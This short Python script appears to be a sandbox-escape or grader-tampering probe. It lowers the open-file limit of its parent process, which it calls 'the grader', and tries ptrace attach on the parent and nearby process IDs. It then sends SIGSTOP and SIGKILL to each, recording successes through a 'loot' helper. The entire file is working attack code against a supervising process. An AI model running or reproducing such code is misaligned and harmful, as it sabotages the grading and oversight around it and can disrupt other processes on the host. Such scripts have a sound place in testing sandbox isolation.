import ctypes
import os
import resource
import signal

from target import loot, trying

parent = os.getppid()
if trying(lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (3, 3))):
    print("limited the grader")
libc = ctypes.CDLL(None)
for pid in {parent, *range(max(os.getpid() - 40, 2), os.getpid())}:
    if pid > 1 and libc.ptrace(16, pid, 0, 0) == 0:
        loot(f"traced process {pid}")
    for number in (signal.SIGSTOP, signal.SIGKILL):
        trying(lambda pid=pid, number=number: os.kill(pid, number) if pid > 1 else None)
